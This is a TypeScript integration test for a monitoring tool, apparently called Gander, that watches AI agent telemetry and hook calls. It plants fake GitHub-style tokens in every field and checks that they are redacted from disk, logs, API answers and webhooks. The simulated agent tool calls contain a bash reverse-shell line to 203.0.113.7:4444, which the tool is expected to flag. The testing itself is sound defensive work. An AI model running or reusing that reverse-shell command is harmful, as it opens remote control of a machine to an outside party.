/** Secrets planted in every field of what agents send to a running Gander are nowhere afterwards: disk, logs, answers, API, webhooks, terminal. */
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { zstdDecompressSync } from 'node:zlib';
import { checksum } from '../../analysis/secrets/checksum';
import { eventually } from '../support/eventually';
import { newDataFolder, startGander } from '../support/gander-process';
import type { GanderProcess } from '../support/gander-process';
import { SECRET, startWebhookReceiver } from '../support/webhook-receiver';
import type { WebhookReceiver } from '../support/webhook-receiver';

/** Each place gets a token of its own, so that a leak says where it comes from. */
const planted = new Map<string, string>();

function plant(place: string): string {
  const number = String(planted.size).padStart(4, '0');
  const body = `Zk4Wd7Qx2Lm9Rt3Bn6Vp8Yc1Hs${number}`;
  const token = `ghp_${body}${checksum(body)}`;
  planted.set(token, place);
  return token;
}

const text = (key: string, value: string) => ({ key, value: { stringValue: value } });
const now = () => `${Date.now()}000000`;
const SHELL = 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1';

/** A resource whose every attribute that anybody reads holds a secret. */
const resource = (service: string, where: string) => ({
  attributes: [
    text('service.name', service),
    ...['service.version', 'service.instance.id', 'host.name', 'host.id', 'user.name', 'process.command_line'].map(
      (key) => text(key, plant(`${where} resource ${key}`)),
    ),
    text(plant(`${where} resource key`), 'x'),
  ],
});

function claudeCode() {
  const place = (name: string) => plant(`claude-code ${name}`);
  const session = place('session.id');
  const record = (name: string, more: object[]) => ({
    timeUnixNano: now(),
    eventName: name,
    severityText: place(`${name} severity`),
    body: { stringValue: `claude_code.${name} ${place(`${name} body`)}` },
    attributes: [
      text('event.name', name),
      text('session.id', session),
      ...['user.id', 'user.email', 'organization.id', 'terminal.type', 'prompt.id', 'workspace.host_paths'].map((key) =>
        text(key, place(`${name} ${key}`)),
      ),
      text(place(`${name} key`), place(`${name} value of an odd key`)),
      ...more,
    ],
  });
  const parameters = { full_command: `${SHELL} # ${place('command')}`, description: place('description') };
  const tool = [
    text('tool_name', 'Bash'),
    text('tool_use_id', place('tool_use_id')),
    text('tool_parameters', JSON.stringify({ ...parameters, [place('parameter key')]: place('parameter') })),
    text('success', 'true'),
    text('error', place('error')),
    text('decision_source', place('decision_source')),
  ];
  const mcp = [
    text('tool_name', `mcp__${place('mcp server')}__${place('mcp tool')}`),
    text('tool_input', JSON.stringify({ url: `https://u:${place('userinfo')}@git.example/x?token=${place('query')}` })),
    text('tool_parameters', JSON.stringify({ mcp_server_name: place('mcp_server_name'), mcp_tool_name: place('mcp') })),
  ];
  const logRecords = [
    record('user_prompt', [text('prompt', `deploy with ${place('prompt')}`)]),
    record('tool_result', tool),
    record('tool_result', mcp),
    record('api_error', [text('error', place('api error')), text('model', place('model'))]),
    record(place('event name'), []),
  ];
  const scope = { name: 'com.anthropic.claude_code.events', version: place('scope version') };
  return { resourceLogs: [{ resource: resource('claude-code', 'claude-code'), scopeLogs: [{ scope, logRecords }] }] };
}

function genai(service: string) {
  const place = (name: string) => plant(`${service} ${name}`);
  const call = {
    command: `${SHELL} ; curl -H "Authorization: Bearer ${place('header')}" https://api.example`,
    [place('argument key')]: place('argument'),
  };
  const attributes = [
    text('gen_ai.operation.name', 'execute_tool'),
    text('gen_ai.tool.name', 'bash'),
    text('gen_ai.tool.call.arguments', JSON.stringify(call)),
    text('gen_ai.tool.call.result', place('result')),
    ...[
      'gen_ai.tool.call.id',
      'gen_ai.conversation.id',
      'gen_ai.agent.name',
      'gen_ai.agent.id',
      'gen_ai.request.model',
      'gen_ai.system',
      'gen_ai.provider.name',
      'gen_ai.prompt',
      'gen_ai.input.messages',
      'url.full',
      'server.address',
      'enduser.id',
      'mcp.session.id',
    ].map((key) => text(key, place(key))),
    text(place('attribute key'), 'x'),
    { key: 'nested', value: { kvlistValue: { values: [text(place('nested key'), place('nested value'))] } } },
    { key: 'bytes', value: { bytesValue: Buffer.from(place('bytes')).toString('base64') } },
  ];
  const exception = [
    text('exception.type', place('exception type')),
    text('exception.message', place('exception message')),
    text('exception.stacktrace', place('stack trace')),
  ];
  const span = {
    traceId: '5b8efff798038103d269b633813fc60c',
    spanId: 'eee19b7ec3c1b174',
    traceState: place('trace state'),
    name: `execute_tool bash ${place('span name')}`,
    startTimeUnixNano: now(),
    endTimeUnixNano: now(),
    attributes,
    events: [
      { timeUnixNano: now(), name: 'exception', attributes: exception },
      { timeUnixNano: now(), name: place('span event name'), attributes: [] },
    ],
    links: [
      {
        traceId: '5b8efff798038103d269b633813fc60d',
        spanId: 'eee19b7ec3c1b175',
        attributes: [text('l', place('link'))],
      },
    ],
    status: { code: 2, message: place('status message') },
  };
  const scope = {
    name: place('scope name'),
    version: place('scope version'),
    attributes: [text('s', place('scope attribute'))],
  };
  return { resourceSpans: [{ resource: resource(service, service), scopeSpans: [{ scope, spans: [span] }] }] };
}

function metrics() {
  const place = (name: string) => plant(`metric ${name}`);
  const points = (keys: readonly string[]) => ({
    dataPoints: [{ timeUnixNano: now(), asDouble: 0.99, attributes: keys.map((key) => text(key, place(key))) }],
  });
  const all = [
    { name: 'system.cpu.utilization', unit: '1', gauge: points(['cpu', 'state']) },
    {
      name: 'process.cpu.utilization',
      unit: '1',
      gauge: points(['process.command', 'process.command_line', 'process.owner']),
    },
    {
      name: 'claude_code.token.usage',
      unit: place('unit'),
      sum: { ...points(['model', 'type', 'session.id']), aggregationTemporality: 1 },
    },
    { name: `odd.${place('name')}`, description: place('text'), gauge: points(['key']) },
  ];
  return {
    resourceMetrics: [
      { resource: resource('hostmetrics', 'metrics'), scopeMetrics: [{ scope: { name: 'x' }, metrics: all }] },
    ],
  };
}

function hookCall() {
  const place = (name: string) => plant(`hook ${name}`);
  return {
    hook_event_name: 'PostToolUse',
    session_id: place('session_id'),
    transcript_path: `/home/u/${place('transcript_path')}`,
    cwd: `/home/u/${place('cwd')}`,
    permission_mode: place('permission_mode'),
    tool_name: 'Bash',
    tool_use_id: place('tool_use_id'),
    tool_input: { command: `echo ${place('command')} | ${SHELL}`, [place('key')]: place('value') },
    tool_response: { stdout: place('stdout'), stderr: place('stderr') },
    [place('odd key')]: place('odd value'),
  };
}

const { folder, remove } = newDataFolder();
const answers: string[] = [];
let hook: WebhookReceiver;
let gander: GanderProcess;

async function post(path: string, body: string, headers: Record<string, string> = {}): Promise<void> {
  const response = await fetch(`${gander.otlp}${path}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body,
  });
  answers.push(` ${response.status} ${await response.text()} ${JSON.stringify([...response.headers])}`);
}

beforeAll(async () => {
  hook = await startWebhookReceiver();
  const webhooks = [{ name: 'ops', url: hook.url, secret: SECRET, minSeverity: 'info' }];
  const config = {
    alerts: { webhooks, terminal: 'info' },
    log: { level: 'debug' },
    engine: { snapshotSeconds: 1, tickSeconds: 1 },
    collector: { http: { port: 0 }, grpc: { port: 0 }, limits: { stringBytes: 2_000 } },
  };
  gander = await startGander({ folder, config });
  await post('/v1/logs', JSON.stringify(claudeCode()));
  for (const service of ['framework', 'unheard-of']) await post('/v1/traces', JSON.stringify(genai(service)));
  await post('/v1/metrics', JSON.stringify(metrics()));
  await post('/hooks/claude-code', JSON.stringify(hookCall()));
  await post('/v1/logs', `{"resourceLogs": "${plant('broken JSON')}`);
  await post(
    '/v1/logs',
    JSON.stringify({ resourceLogs: [{ scopeLogs: [{ logRecords: [{ timeUnixNano: plant('a time') }] }] }] }),
  );
  await post('/v1/traces', plant('no protobuf'), { 'content-type': 'application/x-protobuf' });
  await post(`/v1/${plant('path')}`, '{}');
  await post('/v1/logs', '{}', { authorization: `Bearer ${plant('authorization')}`, 'x-api-key': plant('header') });
  await post('/v1/logs', '{}', { traceparent: plant('traceparent'), 'user-agent': plant('user agent') });
  await post('/v1/logs', '{}', {
    'content-type': plant('content type'),
    'content-encoding': plant('content encoding'),
  });
  // Longer than is kept: what is cut must not be a secret cut in two.
  const long = `${'x '.repeat(990)}${plant('at the cut')} ${'y '.repeat(3_000)}`;
  const cut = {
    body: { stringValue: 'claude_code.user_prompt' },
    attributes: [text('event.name', 'user_prompt'), text('prompt', long)],
  };
  await post(
    '/v1/logs',
    JSON.stringify({
      resourceLogs: [
        {
          resource: { attributes: [text('service.name', 'claude-code')] },
          scopeLogs: [{ scope: { name: 'com.anthropic.claude_code.events' }, logRecords: [cut] }],
        },
      ],
    }),
  );
  await hook.until(2);
  await eventually('an archive', async () => {
    const page = await gander.metrics();
    const archived = page.sum('gander_consumed_total', { group: 'gander-archive' });
    return archived > 0 && archived === page.sum('gander_published_total', { topic: 'gander.events.v1' });
  });
  await eventually(
    'a snapshot',
    async () => (await gander.metrics()).sum('gander_snapshots_total', { result: 'written' }) > 0,
  );
}, 60_000);

afterAll(async () => {
  await hook.close();
  await gander.kill();
  remove();
});

/** Places of which a trace is in the text: the token plain, in base64 or in hex, or a long part of it. */
function found(text: string): string[] {
  return [...planted].flatMap(([token, place]) => {
    const forms = [
      token,
      token.slice(8),
      Buffer.from(token).toString('base64').slice(0, -4),
      Buffer.from(token).toString('hex'),
    ];
    return forms.some((form) => text.includes(form)) ? [place] : [];
  });
}

test('what was sent was seen: alerts, redacted', async () => {
  const told = JSON.stringify(await gander.allAlerts());
  expect(told).toContain('203.0.113.7');
  expect(told).toContain('REDACTED_github-token_');
  expect((await gander.metrics()).sum('gander_secrets_redacted_total')).toBeGreaterThan(50);
});

test('no answer of the collector holds one', () => {
  expect(answers.filter((answer) => / 200 /.test(answer))).toHaveLength(7);
  expect(answers.flatMap(found)).toEqual([]);
});

test('nothing that people are shown holds one', async () => {
  const paths = ['/api/alerts', '/api/sessions', '/api/sources', '/api/detectors', '/metrics', '/readyz'];
  for (const path of paths) expect([path, found(await (await gander.get(path)).text())]).toEqual([path, []]);
  expect(hook.received.flatMap(({ body, request }) => found(JSON.stringify([body, request.headers])))).toEqual([]);
  expect(found(gander.output())).toEqual([]);
});

test('no log line holds one', () => {
  const lines = gander.logs().map((line) => JSON.stringify(line));
  expect(lines.length).toBeGreaterThan(0);
  expect(lines.flatMap(found)).toEqual([]);
});

/** Every value of every table, blobs also unpacked. */
function* values(file: string): Generator<string> {
  const database = new DatabaseSync(file, { readOnly: true });
  const tables = database.prepare("SELECT name FROM sqlite_schema WHERE type = 'table'").all();
  for (const { name } of tables) {
    for (const row of database.prepare(`SELECT * FROM "${String(name)}"`).iterate()) {
      for (const value of Object.values(row)) {
        if (typeof value === 'string') yield value;
        else if (value instanceof Uint8Array) yield* unpacked(value);
      }
    }
  }
  database.close();
}

function* unpacked(bytes: Uint8Array): Generator<string> {
  yield Buffer.from(bytes).toString('latin1');
  if (bytes[0] === 0x28 && bytes[1] === 0xb5) yield zstdDecompressSync(bytes).toString('utf8');
}

test('after its end nothing on disk holds one', async () => {
  expect(await gander.stop()).toMatchObject({ code: 0 });
  const files = readdirSync(folder, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile());
  const leaks = new Set<string>();
  let redacted = 0;
  for (const { parentPath, name } of files) {
    const file = join(parentPath, name);
    for (const place of found(readFileSync(file, 'latin1'))) leaks.add(`${name}: ${place}`);
    if (!name.endsWith('.db') || name === 'lock.db') continue;
    for (const value of values(file)) {
      if (value.includes('REDACTED_')) redacted += 1;
      for (const place of found(value)) leaks.add(`${name}: ${place}`);
    }
  }
  expect([...leaks]).toEqual([]);
  expect(redacted).toBeGreaterThan(10);
});
